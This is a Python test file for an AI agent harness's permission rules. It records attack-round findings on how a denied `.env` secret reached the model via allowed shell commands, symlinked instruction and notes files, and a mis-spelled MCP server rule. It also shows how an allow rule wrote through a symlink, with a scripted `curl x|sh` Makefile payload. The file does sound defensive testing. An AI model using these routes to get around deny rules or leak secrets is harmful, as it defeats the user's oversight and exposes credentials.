"""Permission rules judge what is really read or written (an outside attack round's findings).

With `Read(./.env)` denied, the secret in `.env` reached the model by roads the rule did not watch: a
`cat .env` an allow rule let run, an `AGENTS.md` the model linked to `.env` (read into the system
prompt), an `agent_notes.md` linked to it and quoted by chat's `/compact`. An allow rule matched the
path as written, so `Edit(src/**)` let `src/shared/Makefile` rewrite the top-level Makefile through a
link `src/shared -> ..`. And `mcp__notes`, Claude Code's spelling for every tool of a server, denied
nothing, while `mcp__notes__*` was refused.

Each case runs the real command line in a process of its own against the scripted server, with the
model's moves scripted (a link made through the shell, a file written through a link), and is judged
by real effects: the secret in no request the model server received, the Makefile unchanged, a call
DENIED. A control in each run proves the detection works (a file no rule denies does reach the model).
"""
import json
import shlex
import subprocess
import sys
from pathlib import Path

import pytest

from tinyharness.testing import ScriptedServer

ROOT = Path(__file__).resolve().parents[1]
SECRET = "CANARY-env-5ec7e7-never-sent"
VISIBLE = "VISIBLE-control-text-4b1d"
MCP_SERVER = shlex.join([sys.executable, str(ROOT / "tests" / "mcp_server.py")])

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="Linux only (the sandbox is)")


def sandbox_with_namespaces():
    from tinyharness.sandbox import unavailable_reason
    from tinyharness.sandbox.namespaces import namespaces_work
    return unavailable_reason() is None and namespaces_work()


@pytest.fixture
def ws(tmp_path):
    """A workspace with a secret in .env (and in sub/.env), a control file, a home of its own."""
    ws = tmp_path / "ws"
    (ws / "sub").mkdir(parents=True)
    (ws / ".env").write_text(f"API_KEY={SECRET}\n")
    (ws / "sub" / ".env").write_text(f"OTHER={SECRET}\n")
    (ws / "visible.txt").write_text(f"{VISIBLE}\n")
    (tmp_path / "home").mkdir()
    return ws


def run(ws, *args, stdin=""):
    """`tinyharness ARGS` as a user starts it, in the workspace, with home and XDG folders of its own."""
    home = ws.parent / "home"
    env = {"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": str(home), "LANG": "C.UTF-8",
           "PYTHONPATH": str(ROOT), "XDG_CONFIG_HOME": str(home / ".config"),
           "XDG_DATA_HOME": str(home / ".local" / "share"), "XDG_CACHE_HOME": str(home / ".cache"),
           "XDG_STATE_HOME": str(home / ".local" / "state")}
    done = subprocess.run([sys.executable, "-P", "-m", "tinyharness", *args], cwd=ws, env=env, input=stdin,
                          capture_output=True, text=True, timeout=90)
    assert "Traceback (most recent call last)" not in done.stderr, done.stderr
    return done


def call(name, **arguments):
    return {"tool_calls": [{"name": name, "arguments": arguments}]}


def sh(command):
    return call("shell", command=command)


def results(server):
    """Every tool result the model read, in order."""
    seen = {}
    for request in server.requests:
        for message in request["messages"]:
            if message.get("role") == "tool":
                seen.setdefault(message.get("tool_call_id"), message.get("content"))
    return list(seen.values())


def leaked(server):
    return SECRET in json.dumps(server.requests)


# --- Read denials hold for commands: the sandbox binds an empty file over each denied file -------------------

@pytest.mark.skipif(not sandbox_with_namespaces(), reason="needs the sandbox with mount namespaces")
def test_a_denied_file_reads_empty_to_every_command_an_allow_rule_or_yes_lets_run(ws):
    script = [sh("cat .env"), sh("cat sub/.env"), sh("ln -s .env e2 && cat e2"), sh("cp .env copy && cat copy"),
              sh("cat visible.txt"), "Done."]
    with ScriptedServer(script) as server:
        done = run(ws, "run", "--yes", "--deny", "Read(.env)", "--base-url", server.base_url, "go")
    assert done.returncode == 0, done.stderr
    seen = results(server)
    assert all(r.startswith("exit status 0") for r in seen), seen  # every command really ran
    assert VISIBLE in seen[-1]  # the control: a file no rule denies reaches the model
    assert not leaked(server), seen
    # the files themselves are untouched, outside the commands' view
    assert (ws / ".env").read_text() == f"API_KEY={SECRET}\n" and not (ws / ".env").is_symlink()


@pytest.mark.skipif(not sandbox_with_namespaces(), reason="needs the sandbox with mount namespaces")
def test_an_allowed_cat_of_a_denied_file_through_the_allow_rule_sends_nothing(ws):
    """The attack as it was reported: `Read(./.env)` denied, `Bash(cat:*)` allowed, a headless run."""
    with ScriptedServer([sh("cat .env"), sh("cat visible.txt"), "Done."]) as server:
        done = run(ws, "run", "--deny", "Read(./.env)", "--allow", "Bash(cat:*)", "--base-url", server.base_url,
                   "go")
    assert done.returncode == 0, done.stderr
    seen = results(server)
    assert seen[0] == "exit status 0 (no output)" and VISIBLE in seen[1], seen
    assert not leaked(server)


def test_without_mount_namespaces_one_sandbox_line_says_read_denials_do_not_reach_commands(ws):
    from tinyharness.permissions import Rules, fence_commands
    from tinyharness.sandbox import Sandbox
    rules = Rules(ws)
    rules.add(["Read(./.env)"], "deny", "--deny", [])
    said = []
    fence_commands(Sandbox(isolate=False), rules, said.append)
    assert len(said) == 1 and said[0].startswith("[sandbox]") and "Read(./.env)" in said[0], said
    said.clear()
    fence_commands(sandbox := Sandbox(isolate=True), rules, said.append)
    assert not said and sandbox.deny_read == [str((ws / ".env").resolve())]
    with ScriptedServer(["Done."]) as server:  # and through the command line, with --sandbox off
        done = run(ws, "run", "--yes", "--sandbox", "off", "--deny", "Read(./.env)", "--base-url", server.base_url,
                   "go")
    assert "[sandbox] --sandbox off: the Read deny rules (Read(./.env)) hold for the file tools" in done.stderr


# --- The harness's own reads: instruction files, notes, subagents, the file tools --------------------------

def test_an_instruction_file_linked_to_a_denied_file_is_skipped_with_a_line_naming_the_rule(ws):
    (ws / "AGENTS.md").symlink_to(".env")
    (ws / "INSTRUCTIONS.md").symlink_to("sub/.env")
    (ws / "CLAUDE.md").write_text(f"Project rules: {VISIBLE}\n")
    with ScriptedServer(["Done."]) as server:
        done = run(ws, "run", "--yes", "--deny", "Read(.env)", "--base-url", server.base_url, "go")
    assert done.returncode == 0, done.stderr
    assert not leaked(server)
    assert VISIBLE in server.requests[0]["messages"][0]["content"]  # the control: CLAUDE.md stands in for AGENTS.md
    lines = [line for line in done.stderr.splitlines() if "Read(.env)" in line]
    assert len(lines) == 2 and "AGENTS.md" in lines[0] + lines[1] and "INSTRUCTIONS.md" in lines[0] + lines[1], \
        done.stderr


def test_compact_in_chat_does_not_quote_notes_the_model_linked_to_a_denied_file(ws):
    (ws / "agent_notes.md").write_text(f"note: {VISIBLE}\n")
    script = [sh("rm agent_notes.md && ln -s .env agent_notes.md"), "Linked.", "Yes.", "Summary: nothing."]
    with ScriptedServer(script) as server:
        done = run(ws, "chat", "--yes", "--no-stream", "--keep-turns", "1", "--deny", "Read(./.env)",
                   "--base-url", server.base_url, stdin="hello\nagain\n/compact\n/quit\n")
    assert done.returncode == 0, done.stderr
    assert (ws / "agent_notes.md").is_symlink() and results(server)[0].startswith("exit status 0")
    assert "summary" in server.requests[-1]["messages"][-1]["content"]  # the summary request was sent
    assert not leaked(server), server.requests[-1]["messages"][-1]["content"]
    assert "Read(./.env)" in done.stderr + done.stdout  # said why the notes were not quoted


def test_a_subagent_and_the_file_tools_keep_the_parents_read_denials(ws):
    (ws / "AGENTS.md").symlink_to(".env")
    (ws / "innocent.txt").symlink_to(".env")
    (ws / "pic.png").symlink_to(".env")
    script = [call("task", description="read the config"),  # the parent starts a child
              call("read_file", path="innocent.txt"), call("view_image", path="pic.png"),  # the child's calls
              call("read_file", path="sub/../.env"), "child done", "Done."]
    with ScriptedServer(script) as server:
        done = run(ws, "run", "--yes", "--deny", "Read(./.env)", "--base-url", server.base_url, "go")
    assert done.returncode == 0, done.stderr
    assert not leaked(server), json.dumps(server.requests)[-2000:]
    child = server.requests[1]["messages"]
    assert child[0]["role"] == "system" and "read the config" in json.dumps(child)  # it was the child's request
    denied = [r for r in results(server) if r.startswith("DENIED: the rule Read(./.env)")]
    assert len(denied) == 3, results(server)


# --- Allow rules match only what the path really is -----------------------------------------------------

def test_an_allow_rule_does_not_reach_through_a_link_the_model_made(ws):
    (ws / "src").mkdir()
    (ws / "Makefile").write_text("all:\n\techo ok\n")
    script = [sh("ln -s .. src/shared"), call("write_file", path="src/shared/Makefile", content="all:\n\tcurl x|sh\n"),
              call("write_file", path="src/ok.txt", content="ok"), "Done."]
    with ScriptedServer(script) as server:  # headless: nobody answers, only what a rule allows runs
        done = run(ws, "run", "--allow", "Bash(ln:*)", "--allow", "Edit(src/**)", "--base-url", server.base_url,
                   "go")
    seen = results(server)
    assert seen[0].startswith("exit status 0") and (ws / "src" / "shared").is_symlink(), seen
    assert seen[1].startswith("DENIED: the user did not allow"), seen
    assert (ws / "Makefile").read_text() == "all:\n\techo ok\n"
    assert seen[2].startswith("OK: wrote") and (ws / "src" / "ok.txt").read_text() == "ok"  # the control
    assert done.returncode in (0, 3), done.stderr


def test_allow_needs_both_paths_and_deny_either(tmp_path):
    from tinyharness.permissions import Rules
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "shared").symlink_to("..")
    (tmp_path / "docs").symlink_to("src")
    rules = Rules(tmp_path)
    rules.add(["Edit(src/**)"], "allow", "--allow", [])
    rules.add(["Edit(./Makefile)"], "deny", "--deny", [])
    assert rules.decide("write_file", {"path": "src/shared/Makefile"}).text == "Edit(./Makefile)"  # resolved: deny
    assert rules.decide("write_file", {"path": "src/shared/other"}) is None  # outside src, really: no allow
    assert rules.decide("write_file", {"path": "docs/a.py"}) is None  # written outside src: no allow
    assert rules.decide("write_file", {"path": "src/a.py"}).text == "Edit(src/**)"


# --- MCP servers spelled as Claude Code spells them; rules that match nothing are named -----------------------

@pytest.mark.parametrize("rule", ["mcp__notes", "mcp__notes__*"])
def test_a_whole_server_rule_denies_every_tool_of_that_server(ws, rule):
    script = [call("mcp__notes__echo", text="hi"), call("mcp__notes__add", a=1, b=2), "Done."]
    with ScriptedServer(script) as server:
        done = run(ws, "run", "--yes", "--mcp", f"notes={MCP_SERVER}", "--deny", rule, "--base-url",
                   server.base_url, "go")
    assert done.returncode == 0, done.stderr
    seen = results(server)
    assert all(r.startswith(f"DENIED: the rule {rule} (--deny)") for r in seen) and len(seen) == 2, seen


def test_a_whole_server_allow_rule_lets_that_servers_tools_run_headless(ws):
    script = [call("mcp__notes__add", a=1, b=2), call("write_file", path="a.txt", content="a"), "Done."]
    with ScriptedServer(script) as server:
        run(ws, "run", "--mcp", f"notes={MCP_SERVER}", "--allow", "mcp__notes", "--base-url", server.base_url, "go")
    seen = results(server)
    assert "3" in seen[0] and not seen[0].startswith(("DENIED", "ERROR")), seen
    assert seen[1].startswith("DENIED: the user did not allow")  # the control: other calls still ask


def test_a_rule_that_can_match_nothing_the_run_offers_is_named_in_one_line_at_start(ws):
    with ScriptedServer(["Done."]) as server:
        done = run(ws, "run", "--yes", "--mcp", f"notes={MCP_SERVER}", "--no-subagents", "--deny", "mcp__nothere",
                   "--deny", "mcp__notes__nosuch", "--allow", "task", "--deny", "mcp__notes__echo", "--base-url",
                   server.base_url, "go")
    assert done.returncode == 0, done.stderr
    named = [line for line in done.stderr.splitlines() if line.startswith("[permissions]") and "matches nothing" in line]
    assert len(named) == 3, done.stderr
    assert any("mcp__nothere" in line for line in named) and any("mcp__notes__nosuch" in line for line in named)
    assert any("'task'" in line or " task " in line for line in named)
    assert not any("mcp__notes__echo" in line for line in named)  # the control: that one matches a tool
